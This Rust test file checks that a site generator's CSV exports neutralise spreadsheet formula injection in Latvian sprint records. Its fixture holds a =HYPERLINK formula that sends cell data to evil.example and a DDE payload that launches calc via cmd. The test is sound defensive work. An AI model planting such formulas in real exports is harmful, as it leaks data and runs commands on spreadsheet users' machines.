//! The open-data exports as a spreadsheet user meets them (issue 17): a
//! record's text that looks like a formula must not run as one.

mod common;
use common::*;

#[test]
fn csv_cells_that_look_like_formulas_are_neutralised() {
    let site = copy_fixture("minimal");
    let f = site.path().join("content/sprints/cilveks-pirmaja-vieta.md");
    let hostile = std::fs::read_to_string(&f)
        .unwrap()
        .replace(
            "title: Cilvēks pirmajā vietā",
            "title: '=HYPERLINK(\"https://evil.example/?\"&A1,\"Klikšķini\")'",
        )
        .replace(
            "outcome: Izstrādāts vienkāršotas valodas prototips.",
            "outcome: '@SUM(1+1)*cmd|'' /C calc''!A0'",
        );
    std::fs::write(&f, hostile).unwrap();
    let out = run(site.path(), None);
    assert!(!out.has_errors(), "{:?}", out.diags);
    let file = |p: &str| {
        out.files
            .iter()
            .find(|(path, _)| path == p)
            .unwrap_or_else(|| panic!("no {p}"))
            .1
            .clone()
    };
    let csv_bytes = file("dati/sprints.csv");
    let mut r = csv::Reader::from_reader(csv_bytes.as_slice());
    let headers = r.headers().unwrap().clone();
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let row = r
        .records()
        .map(Result::unwrap)
        .find(|row| &row[0] == "cilveks-pirmaja-vieta")
        .unwrap();
    assert_eq!(
        &row[col("title_lv")],
        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Klikšķini\")"
    );
    assert!(row[col("outcome_lv")].starts_with("'@SUM"));
    // Numbers stay numbers; ordinary text is not touched.
    assert_eq!(&row[col("participants")], "21");
    assert_eq!(&row[col("title_en")], "People first");
    // No cell of any export starts with a formula character.
    for (path, bytes) in out.files.iter().filter(|(p, _)| p.ends_with(".csv")) {
        let mut r = csv::Reader::from_reader(bytes.as_slice());
        for row in r.records() {
            for cell in row.unwrap().iter() {
                let first = cell.chars().next();
                let numeric = cell.parse::<f64>().is_ok();
                assert!(
                    numeric || !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                    "{path}: {cell}"
                );
            }
        }
    }
    // The JSON export keeps the editor's text exactly.
    let json: serde_json::Value = serde_json::from_slice(&file("dati/sprints.json")).unwrap();
    let title = json
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == "cilveks-pirmaja-vieta")
        .unwrap()["text"]["lv"]["title"]
        .clone();
    assert!(title.as_str().unwrap().starts_with("=HYPERLINK"));
}
